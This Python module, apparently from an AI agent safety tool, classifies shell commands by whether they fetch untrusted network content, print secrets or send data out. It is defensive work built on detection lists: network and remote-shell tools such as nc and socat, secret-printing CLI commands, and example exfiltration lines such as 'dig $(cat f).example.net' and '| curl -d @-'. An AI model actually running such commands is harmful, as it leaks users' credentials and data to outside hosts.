"""What one shell command line contributes to the session flow rule, from its analysis.

The flow rule (see `session.py`) needs three facts per call: does it bring content the user did
not write into the agent's context, does it bring sensitive data in, does it send data to
another host. For file tools and URLs the engine reads these off the call's operations. A shell
line needs more: many programs talk to other hosts without the analyser naming a host (`git
push` to a configured remote, `mail`, `aws s3 cp`, `dig $(cat f).example.net`, `curl $URL`),
and some print secrets without reading a file (`env`, `printenv`, `echo $GITHUB_TOKEN`).

The tables below are deliberately about *reaching another host*, not about whether that is
harmful: the flow rule only asks when a session has also read untrusted content and sensitive
data, so counting a harmless `git fetch` costs a question in a rare session, while missing an
egress channel is the exact hole the rule exists to close. Package installs (`npm install`,
`pip install`) are not counted: they go to the configured registry and carry only package
names, and asking on them would make ordinary sessions noisy.

Everything here is a pure function of the analysis, linear in its size.
"""

from __future__ import annotations

from dataclasses import dataclass

from crustcore_nano.shell import CommandFact, ShellAnalysis
from crustcore_nano.shell import OpKind as ShellOp
from crustcore_nano.shell.commands import GIT_VALUE_OPTIONS
from crustcore_nano.shell.leaks import MAILERS
from crustcore_nano.shell.secretvars import is_secret_name

__all__ = ["ShellFlow", "git_subcommand", "shell_flow"]

# Programs whose every real run talks to another host (a bare `--version` or `--help` aside).
_CLIENTS = frozenset(
    {
        # transfer and remote shells (the analyser names a host for most of them, not always)
        "curl", "wget", "nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat",
        "telnet", "ftp", "lftp", "tftp", "sftp", "ssh", "mosh", "http", "https", "xh",
        "httpie", "curlie", "aria2c", "axel", "smbclient",
        # name lookups and probes: the name itself can carry data to the attacker's server
        "dig", "nslookup", "host", "drill", "kdig", "delv", "whois", "ping", "ping6",
        "traceroute", "tracepath", "mtr",
        # text browsers print a page for the agent to read
        "lynx", "w3m", "links", "elinks", "browsh",
        # cloud storage and hosting CLIs: every subcommand is a request to the provider
        "aws", "gsutil", "gcloud", "az", "azcopy", "rclone", "s3cmd", "b2", "gh", "glab", "hub",
    }
    | MAILERS
)  # fmt: skip
_GIT_SEND = frozenset({"push", "send-email"})
# Package tools: only the subcommands that fetch a package's metadata or files for reading,
# or send something up (installs are left out on purpose, see the module docstring).
_PACKAGE_NET = {
    "npm": frozenset({"view", "info", "show", "v", "search", "publish", "login", "adduser"}),
    "pnpm": frozenset({"view", "info", "show", "search", "publish", "login"}),
    "yarn": frozenset({"info", "npm", "publish", "login"}),
    "pip": frozenset({"download", "index", "search"}),
    "pip3": frozenset({"download", "index", "search"}),
    "docker": frozenset({"pull", "push", "login", "search"}),
    "podman": frozenset({"pull", "push", "login", "search"}),
    "cargo": frozenset({"search", "info", "publish", "login"}),
    "twine": frozenset({"upload", "register"}),
}
_VERSION_ONLY = frozenset({"--version", "-version", "-V", "version", "--help", "-h", "help"})
# Builtins and programs that print every variable when given no names
_DUMP_ALL = frozenset({"env", "printenv", "set", "export", "declare", "typeset"})
_DUMP_FLAGS = frozenset({"-p", "-x", "-px", "-xp", "-0", "--null"})
# Programs whose output is their arguments
_ECHOES = frozenset({"echo", "printf", "printenv", "cat"})
_STD_STREAMS = frozenset({"/dev/stdout", "/dev/stderr", "/dev/tty"})
# Secret managers and deployment CLIs: (subcommand words, flags of which one is needed; empty:
# none needed).
_ANY: frozenset[str] = frozenset()
_SECRET_PRINTERS: dict[str, tuple[tuple[tuple[str, ...], frozenset[str]], ...]] = {
    "aws": (
        (("secretsmanager", "get-secret-value"), _ANY),
        (("ssm", "get-parameter"), frozenset({"--with-decryption"})),
        (("ssm", "get-parameters"), frozenset({"--with-decryption"})),
        (("ssm", "get-parameters-by-path"), frozenset({"--with-decryption"})),
        (("ecr", "get-login-password"), _ANY),
        (("configure", "export-credentials"), _ANY),
    ),
    "gcloud": ((("secrets", "versions", "access"), _ANY),),
    "az": ((("keyvault", "secret", "show"), _ANY), (("keyvault", "secret", "download"), _ANY)),
    "heroku": ((("config",), _ANY), (("config:get",), _ANY)),
    "railway": ((("variables",), _ANY),),
    "doppler": ((("secrets",), _ANY),),
    "netlify": ((("env:get",), _ANY), (("env:list",), frozenset({"--plain", "--json"}))),
    "terraform": ((("output",), frozenset({"-raw", "-json"})),),
    "tofu": ((("output",), frozenset({"-raw", "-json"})),),
    "pulumi": (
        (("stack", "output"), frozenset({"--show-secrets"})),
        (("config", "get"), _ANY),
        (("config",), frozenset({"--show-secrets"})),
    ),
    "glab": ((("auth", "status"), frozenset({"-t", "--show-token"})),),
}
# Package managers whose `config get KEY` prints a registry token when KEY names one
_TOKEN_CONFIG = frozenset({"npm", "pnpm", "yarn"})
_TOKEN_WORDS = ("auth", "token", "password")
# Interpreter code: how it reads the environment, and how it prints
_ENV_APIS = ("os.environ", "os.getenv", "process.env", "ENV", "getenv", "System.getenv")
_PRINTS = ("print", "console.", "puts", "p ", "pp ", "say", "echo", "stdout", "write(")


@dataclass(frozen=True, slots=True)
class ShellFlow:
    """The reasons (empty when absent) a command line is an untrusted source, a sensitive
    source, or sends data out."""

    untrusted: str = ""
    sensitive: str = ""
    sends: str = ""


def shell_flow(analysis: ShellAnalysis) -> ShellFlow:
    """The flow contribution of every command the line would run (nested ones included)."""
    untrusted = sensitive = sends = ""
    for fact in analysis.commands:
        printed = _prints_secrets(fact)
        sensitive = sensitive or printed
        why, brings, carries = _network_role(fact)
        if brings and not untrusted:
            untrusted = f"what came back from the network ({why})"
        if carries and not sends and not printed:
            # A command that fetches a secret (`aws secretsmanager get-secret-value`) sends only
            # its request, before the secret exists in the session; a later stage that sends
            # the output (`| curl -d @- ...`) is a sender of its own.
            sends = why
    if not sends:
        # targets the analyser found outside any one command (compound commands)
        attached = {t for fact in analysis.commands for t in fact.network}
        loose = [t for t in analysis.network if t not in attached]
        if loose:
            sends = f"`{_name(loose[0].via)}` reaches the network"
            untrusted = untrusted or f"what came back from the network ({sends})"
    return ShellFlow(untrusted, sensitive, sends)


def _name(text: str) -> str:
    flat = " ".join(text.split())
    return flat if len(flat) <= 60 else flat[:57] + "..."


def _network_role(fact: CommandFact) -> tuple[str, bool, bool]:
    """Why this command talks to another host ("" when it does not), whether what comes back
    is content the user did not write, and whether it can carry data of the agent's choosing
    to a host."""
    name = fact.name.lower()
    args = fact.argv[1:]
    if fact.network:
        target = fact.network[0]
        where = target.host or target.url or "a host it computes"
        if target.listen:
            return f"`{name}` serves data to the network", False, True
        # a mail client only sends: nothing comes back for the agent to read
        return f"`{name}` reaches {_name(where)}", name not in MAILERS, True
    code = fact.code
    if code is not None:
        if code.network:
            where = code.network[0].host or "the network"
            return f"{code.language} code that reaches {_name(where)}", True, True
        # a network API whose address the scan could not read (`requests.post(os.environ[
        # "U"], ...)`, `Net::HTTP.get(URI(u))`): it still talks to some host
        net_apis = [a for a in code.apis if a != "exec"]
        if net_apis:
            return f"{code.language} code that uses {_name(net_apis[0])}", True, True
    if name in _CLIENTS:
        if args and all(a in _VERSION_ONLY for a in args):
            return "", False, False
        return f"`{name}` reaches the network", name not in MAILERS, True
    if name == "git":
        return _git_role(args)
    subs = _PACKAGE_NET.get(name)
    if subs is not None:
        words = [a for a in args if not a.startswith("-")]
        if words and words[0] in subs:
            return f"`{name} {words[0]}` contacts a registry", True, True
    return "", False, False


def _git_role(args: tuple[str, ...]) -> tuple[str, bool, bool]:
    """`git push` and `git send-email` carry the agent's data out, to a remote an earlier call
    may have added. Fetching from a configured remote is not counted as untrusted: what it
    brings lands in the workspace, which the flow rule treats as the user's project (a URL
    written on the line is a host the analyser names, counted like any other request)."""
    sub, _ = git_subcommand(args)
    if sub in _GIT_SEND:
        return f"`git {sub}` sends to a remote", False, True
    return "", False, False


def git_subcommand(args: tuple[str, ...]) -> tuple[str, tuple[str, ...]]:
    """The git subcommand after global options (`git -C dir push`), and the words after it."""
    index = 0
    while index < len(args):
        arg = args[index]
        if arg in GIT_VALUE_OPTIONS:
            index += 2
            continue
        if arg.startswith("-"):
            index += 1
            continue
        return arg.lower(), args[index + 1 :]
    return "", ()


def _prints_secrets(fact: CommandFact) -> str:
    """Why this command puts secret values into its output, or ""."""
    name = fact.name.lower()
    operands = [a for a in fact.argv[1:] if a not in _DUMP_FLAGS]
    if name in _DUMP_ALL and not operands:
        return f"`{name}` printed the environment (it holds credentials)"
    if name == "printenv" and any(is_secret_name(a) for a in operands):
        return "`printenv` printed a secret variable"
    if name in _ECHOES and not _stdout_to_file(fact):
        found = _secret_reference(fact.text)
        if found:
            return f"`{name}` printed ${found}"
    stored = _prints_stored_secrets(name, [a.lower() for a in fact.argv[1:]])
    if stored:
        return stored
    if fact.code is not None:
        return _code_prints_secrets(fact.code.code)
    return ""


def _prints_stored_secrets(name: str, args: list[str]) -> str:
    """Why a secret manager or deployment CLI prints stored secret values, or "". Many of
    these are everyday reads of a project's configuration, so they are not refused; they make
    the session sensitive."""
    words = [a for a in args if not a.startswith("-")]
    if name in _TOKEN_CONFIG and words[:2] == ["config", "get"]:
        if any(w in key for key in words[2:] for w in _TOKEN_WORDS):
            return f"`{name} config get` printed a registry token"
        return ""
    flags = {a.split("=", 1)[0] for a in args if a.startswith("-")}
    for prefix, needs in _SECRET_PRINTERS.get(name, ()):
        if tuple(words[: len(prefix)]) == prefix and (not needs or not needs.isdisjoint(flags)):
            return f"`{name} {' '.join(prefix)}` printed stored secrets"
    return ""


def _code_prints_secrets(code: str) -> str:
    """Why interpreter code puts environment secrets into its output, or "": it prints and it
    reads the environment whole (`print(os.environ)`, `console.log(process.env)`, `p ENV`) or
    reads a secret-named variable (`os.environ["GITHUB_TOKEN"]`, `process.env.NPM_TOKEN`)."""
    if not any(p in code for p in _PRINTS):
        return ""
    for api in _ENV_APIS:
        index = code.find(api)
        while index >= 0:
            before = code[index - 1] if index else " "
            if before.isalnum() or before in "_.":  # `NODE_ENV`, `os.getenv` as `getenv`
                index = code.find(api, index + len(api))
                continue
            after = code[index + len(api) : index + len(api) + 80]
            name = _env_name(after)
            if name is None:
                return f"code printed the environment ({api})"
            if name and is_secret_name(name):
                return f"code printed ${name}"
            index = code.find(api, index + len(api))
    return ""


def _env_name(after: str) -> str | None:
    """The variable named right after an environment API (`["X"]`, `.get('X')`, `.X`, `("X")`),
    "" when it is named by something computed, None when the environment is used whole."""
    rest = after.lstrip()
    if rest.startswith((".get(", ".fetch(")):
        rest = rest[rest.index("(") + 1 :]
    elif rest.startswith(("[", "(", "{")):
        rest = rest[1:]
    elif rest.startswith(".") and rest[1:2].isidentifier():
        rest = rest[1:]
        return rest[: _ident_end(rest)]
    else:
        return None
    rest = rest.lstrip().lstrip("'\"")
    return rest[: _ident_end(rest)]


def _ident_end(text: str) -> int:
    end = 0
    while end < len(text) and text[end].isascii() and (text[end].isalnum() or text[end] == "_"):
        end += 1
    return end


def _stdout_to_file(fact: CommandFact) -> bool:
    """Whether the command's standard output goes to a file (`echo "K=$TOKEN" >> .env`), so
    the agent does not see it."""
    return any(
        r.kind is ShellOp.WRITE and r.fd in (None, 1) and r.target not in _STD_STREAMS
        for r in fact.redirects
    )


def _secret_reference(text: str) -> str:
    """The first secret-named variable `$NAME` or `${NAME...}` written in `text`, or ""."""
    index = text.find("$")
    while 0 <= index < len(text):
        start = index + 1
        if start < len(text) and text[start] == "{":
            start += 1
        end = start
        while end < len(text) and (text[end].isalnum() or text[end] == "_") and text[end].isascii():
            end += 1
        if end > start and is_secret_name(text[start:end]):
            return text[start:end]
        index = text.find("$", max(end, index + 1))
    return ""
